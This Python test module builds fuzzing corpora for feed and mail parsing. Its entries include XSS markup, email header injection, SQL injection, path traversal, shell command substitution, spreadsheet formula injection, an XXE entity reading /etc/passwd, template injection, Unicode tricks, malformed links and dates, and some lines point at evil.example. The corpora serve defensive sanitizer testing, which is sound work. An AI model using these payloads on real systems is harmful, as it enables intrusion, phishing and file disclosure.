"""What strangers put into feeds to do harm, or without meaning to. Written for this project."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from itertools import chain, islice
from pathlib import Path

from tests.hostile.invented import everything
from tests.mail.strangers import BAD_LINKS, HOSTILE

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href='java&#115;cript:alert(1)'>here</a>",
    '<a href="javascript&colon;alert(1)">here</a>',
    "<form action=https://evil.example><input name=password><button>Log in",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(https://evil.example/pixel)}</style>",
    "<div style='position:fixed;inset:0'>All of the page</div>",
    "<object data=x.swf><embed src=x.swf>",
    "<!--[if gte mso 9]><img src=https://evil.example/pixel><![endif]-->",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "]]></description></item></channel></rss>",
    "</title></head><body onload=alert(1)>",
    "</textarea></style></script></noscript></template>",
    "<plaintext>",
    "<x onclick=alert(1) style=x:expression(alert(1))>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0;&#1;&#8;&#11;&#127;&#128;&#xD800;&#xFFFF;&#x110000;&#99999999999;",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "<b>" * 2_000,
    "<a href=" * 300,
    "&" * 3_000,
)
HEADERS = (
    "\r\nBcc: evil@example.net\r\n",
    "\r\n\r\n<html>a second body</html>",
    "%0d%0aBcc:%20evil@example.net",
    "&#13;&#10;Bcc: evil@example.net",
    "\u560d\u560aBcc: evil@example.net",
    "=?utf-8?q?=0D=0ABcc:_evil@example.net?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5uZXQ=?= =?utf-8?q?x?=",
    "=?iso-2022-jp?b?GyRC?=",
    "To: <evil@example.net>, ",
    "evil@example.net (Desk) <desk@example.org>",
    "Content-Type: text/html; charset=utf-7",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "--=_boundary--\r\n",
    "\r\n.\r\nMAIL FROM:<evil@example.net>\r\n",
    "begin 644 evil.exe",
    "X" * 2_000 + ": y",
)
LETTERS = (
    "\u202eevil\u202c \u2067evil \u2068evil \u200eevil\u200f \u061cevil",
    "\u2066" * 100,
    "\u202a\u202b\u202d\u202e\u202c",
    "\U000e0001\U000e0041\U000e007f",
    "\ufeff\ufffe\uffff\ufdd0\U0001ffff",
    "\ue000\U000f0000\U0010ffff\U0010f0e9",
    "\udc80\udcff\ud83d",
    "Z" + "\u0300\u0316" * 200,
    "\u3164\u115f\u1160\u2800\u00ad\u034f\u180e",
    "\u1680\u2000\u2009\u202f\u205f\u3000",
    "ﷺﷻ﷼" * 50,
    "İıŞşſßẞﬁK℡",
    "𝒮𝓉ℴ𝓇𝓂 Ⓢⓣⓞⓡⓜ",
    "\x1b]8;;https://evil.example\x07text\x1b]8;;\x07 \x1b[2J\x9b31m\x08\x08",
    "نورث كوريا \u0600\u06dd",
    "🏴\U000e0067\U000e0062\U000e007f👨‍👩‍👧‍👦🇫🇷🇫",
    "ใจ" * 300,
    "\u0d4e\u0bbe\u0c63",
)
CODE = (
    "{{ config }}{% for x in y %}{% endfor %}{# #}",
    "${7*7} #{7*7} <%= 7*7 %> {{=7*7}}",
    "%s %n %(x)s %1000000d {0.__class__}",
    "'; DROP TABLE items; --",
    '" OR 1=1 --',
    "../../../../etc/passwd\x00.txt",
    "$(touch /tmp/evil) `touch /tmp/evil` | touch /tmp/evil",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml version='1.0'?><?php system('id') ?>",
    "(a+)+$ " + "a" * 2_000,
    "[" * 2_000,
    "1e999999 -0 NaN Infinity 0x7fffffffffffffff 99999999999999999999",
    "None null undefined true [object Object]",
)
LINKS = (
    "javascript:alert(1)//https://news.example/",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https:evil.example",
    "https:\\\\evil.example\\x",
    "https://evil.example\\@news.example/",
    "https://news.example/'onclick='alert(1)",
    'https://news.example/"><script>alert(1)</script>',
    "https://news.example/<b>",
    "https://news.example/%0d%0aSet-Cookie:x",
    "https://[::ffff:1.2.3.4%25eth0]/",
    "https://xn--/",
    "https://" + "a." * 500 + "example/",
    "https://news.example:65536/",
    "https://news.example/" + "?a=" * 500,
    "ftp://news.example/x",
    "tel:+33123456789",
    "blob:https://news.example/x",
    "view-source:https://news.example/",
    "http://①②⑦.0.0.1/",
    "https://news。example/",
    "//news.example/x",
    "?q=<script>",
    "#",
)
DATES = (
    "Fri, 99 Jan 99999 99:99:99 +9999",
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:60+14:00",
    "-271821-04-20T00:00:00Z",
    "1970-01-01T00:00:00-00:00",
    "Thu, 26 Nov 2026 24:00:00 XYZ",
    "26 novembre 2026 à 7 h",
    "9" * 400,
    "2026-11-26T07:00:00" + "Z" * 200,
    "٢٠٢٦-١١-٢٦",
)
OWN = (*HOSTILE, *BAD_LINKS, *MARKUP, *HEADERS, *LETTERS, *CODE, *LINKS, *DATES)
"""Every single one."""

LONGEST = 12_000


def mixtures(number: int, seed: int) -> Iterator[str]:
    """So many strings, each of two to four pieces of written ones: what no list has thought of."""
    chance = random.Random(seed)
    for _ in range(number):
        pieces = (_piece(chance) for _ in range(chance.randint(2, 4)))
        yield chance.choice(("", " ", "\n", "storm ")).join(pieces)[:LONGEST]


def _piece(chance: random.Random) -> str:
    whole = chance.choice(OWN)[:2_000]
    if chance.random() < 0.5:
        return whole
    start = chance.randrange(len(whole) + 1)
    return whole[start : start + chance.randint(1, 40)]


def thousands(number: int, seed: int) -> Iterator[str]:
    """So many: all that is written here, all that is invented, and for the rest mixtures of it."""
    return islice(chain(OWN, everything(), mixtures(number, seed)), number)


def collections(folder: Path) -> tuple[str, ...]:
    """The strings of public collections in a folder (naughty strings, XSS, HTML tokenizers)."""
    found: list[str] = []
    for name in ("generated/titles.json", "blns/blns.json"):
        if (folder / name).is_file():
            found += json.loads((folder / name).read_text("utf-8"))
    lines = folder / "payloadbox-xss/Intruder/xss-payload-list.txt"
    if lines.is_file():
        found += lines.read_text("utf-8", "replace").splitlines()
    for path in sorted(folder.glob("html5lib-tests/tokenizer/*.test")):
        tests = json.loads(path.read_text("utf-8"))
        found += [str(test["input"]) for test in tests.get("tests", ())]
    return tuple(text[:LONGEST] for text in found)
